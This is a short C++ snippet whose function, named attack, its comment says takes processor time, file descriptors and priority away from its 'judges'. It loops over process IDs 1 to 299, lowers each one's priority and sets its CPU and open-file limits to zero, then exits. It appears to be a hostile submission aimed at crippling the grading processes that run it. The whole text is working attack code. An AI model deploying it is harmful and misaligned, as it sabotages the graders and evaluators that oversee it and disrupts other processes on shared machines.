// Takes its judges' processor time, descriptors and priority away, as far as a process of the same user may.
#include <sys/resource.h>
static void attack() {
    const rlimit nothing{0, 0};
    for (int pid = 1; pid < 300; ++pid)
        if (pid != ::getpid()) {
            ::setpriority(PRIO_PROCESS, static_cast<id_t>(pid), 19);
            ::prlimit(pid, RLIMIT_CPU, &nothing, nullptr);
            ::prlimit(pid, RLIMIT_NOFILE, &nothing, nullptr);
        }
    ::_exit(0);
}
